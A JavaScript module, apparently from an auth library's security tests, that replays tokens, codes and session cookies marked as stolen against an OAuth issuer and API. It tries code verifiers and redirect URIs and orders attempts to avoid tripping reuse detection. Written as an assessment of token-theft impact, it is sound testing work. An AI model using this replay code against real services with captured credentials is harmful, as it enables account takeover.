// Tries what was stolen, away from the browser: does a server still take it?

/**
 * @param {object} where `{ issuer, clientId, pageUrl, apiUrl }`
 * @param {{kind: string, value: string, at: number, cookie?: string}[]} stolen
 * @param {object} [means] What the attacker has besides:
 * @param {string[]} [means.verifiers] Stolen ones, and the attacker's own.
 * @param {string[]} [means.redirectUris]
 * @param {Map<string, string>} [means.proofs] By token, one for the request in which it is tried (RFC 9449 §4).
 * @returns {Promise<Set<string>>} The values that are usable.
 */
export async function replay(where, stolen, { verifiers = [], redirectUris = [], proofs = new Map() } = {}) {
  const usable = new Set();
  const tried = async (kinds, spent) => {
    const these = stolen.filter((secret) => kinds.includes(secret.kind) && (secret.spent ?? false) === spent);
    for (const one of these)
      if (await TRIALS[one.kind](where, one, { verifiers, redirectUris, proof: proofs.get(one.value) }))
        usable.add(one.value);
  };
  await tried(["access token", "ID token", "session cookie"], false);
  // Whoever shows a code or a refresh token that was used before ends the whole grant; so those are last.
  await tried(["refresh token"], false);
  await tried(["code"], false);
  await tried(["refresh token", "code"], true);
  return usable;
}

const TRIALS = {
  "access token": bearer,
  "ID token": bearer,
  async "session cookie"({ pageUrl }, { cookie, value }) {
    const headers = { cookie: `${cookie}=${value}` };
    return (await send(`${pageUrl}/session`, { headers })).status === 200;
  },
  async code({ issuer, clientId }, { value }, { verifiers, redirectUris, proof }) {
    for (const redirect_uri of redirectUris) {
      for (const code_verifier of verifiers) {
        const form = {
          grant_type: "authorization_code",
          client_id: clientId,
          code: value,
          redirect_uri,
          code_verifier,
        };
        if (await granted(issuer, form, proof)) return true;
      }
    }
    return false;
  },
  async "refresh token"({ issuer, clientId, pageUrl }, { cookie, value }, { proof }) {
    const form = { grant_type: "refresh_token", client_id: clientId, refresh_token: value };
    if (!cookie) return granted(issuer, form, proof);
    const headers = { cookie: `${cookie}=${value}`, "x-requested-with": "authsafe" };
    return (await send(`${pageUrl}/auth-cookie/refresh`, { method: "POST", headers })).status === 200;
  },
};

async function bearer({ apiUrl }, { value }, { proof }) {
  const headers = proof ? { authorization: `DPoP ${value}`, dpop: proof } : { authorization: `Bearer ${value}` };
  const response = await send(`${apiUrl}/api/hello`, { headers });
  return response.status === 200;
}

async function granted(issuer, form, proof) {
  const headers = proof ? { dpop: proof } : {};
  const response = await send(`${issuer}/token`, { method: "POST", headers, body: new URLSearchParams(form) });
  return response.status === 200;
}

/** Once more, if the server closed a kept connection at the very moment that it was used again. */
function send(address, init) {
  return fetch(address, init).catch(() => fetch(address, init));
}
